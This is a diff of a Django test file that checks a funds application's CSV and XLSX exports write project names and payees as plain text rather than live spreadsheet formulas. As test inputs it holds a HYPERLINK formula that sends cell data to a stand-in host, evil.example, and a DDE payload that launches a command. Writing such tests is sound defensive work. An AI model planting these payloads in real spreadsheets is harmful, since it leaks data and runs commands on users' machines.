@@ -8,11 +8,12 @@ import re
 import zipfile
 
 from django.urls import reverse
-from funds_setup import V_TAOYANG, build, pay
 from openpyxl import load_workbook
 
 from xiezuo.funds import exports, imports, services
 from xiezuo.funds.models import Disbursement, Project
+
+V_TAOYANG = "621124100202"
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?p="&A2,"项目")'
 EVIL_PAYEE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -26,7 +27,7 @@ def _no_formula(data: bytes) -> None:
                 assert not re.search(r"<f[ >]", z.read(name).decode()), name
 
 
-def _setup(client, areas, users):
+def _setup(client, areas, users, build, pay):
     f = build(areas, users)
     client.force_login(f["officer"])
     r = client.post(reverse("funds:project_create"), {
@@ -50,8 +51,8 @@ def _download(client, what, fmt) -> bytes:
 
 
 def test_names_and_payees_from_the_form_and_the_api_are_text_in_csv_exports(client, areas,
-                                                                           users):
-    _setup(client, areas, users)
+                                                                           users, build, pay):
+    _setup(client, areas, users, build, pay)
     cells = set()
     for what in ("projects", "disbursements", "ledger"):
         text = _download(client, what, "csv").decode("utf-8-sig")
@@ -61,8 +62,8 @@ def test_names_and_payees_from_the_form_and_the_api_are_text_in_csv_exports(clie
 
 
 def test_names_and_payees_are_text_in_xlsx_exports_and_amounts_stay_numbers(client, areas,
-                                                                            users):
-    _setup(client, areas, users)
+                                                                            users, build, pay):
+    _setup(client, areas, users, build, pay)
     for what in ("projects", "disbursements", "ledger"):
         data = _download(client, what, "xlsx")
         _no_formula(data)
@@ -78,7 +79,7 @@ def test_names_and_payees_are_text_in_xlsx_exports_and_amounts_stay_numbers(clie
     assert Disbursement.objects.filter(amount__lt=0).exists()
 
 
-def test_the_funds_error_report_gives_back_the_rows_as_text(areas, users, tmp_path):
+def test_the_funds_error_report_gives_back_the_rows_as_text(areas, users, tmp_path, build):
     build(areas, users)
     with open(tmp_path / "d.csv", "w", encoding="utf-8", newline="") as fh:
         w = csv.writer(fh)
@@ -94,7 +95,7 @@ def test_the_funds_error_report_gives_back_the_rows_as_text(areas, users, tmp_pa
     assert values["=1+2"].data_type == "s" and values[EVIL_PAYEE].data_type == "s"
 
 
-def test_export_function_directly_with_a_buffer(areas, users):
+def test_export_function_directly_with_a_buffer(areas, users, build):
     f = build(areas, users)
     Project.objects.filter(pk=f["p1"].pk).update(name=EVIL_NAME)
     out = io.BytesIO()
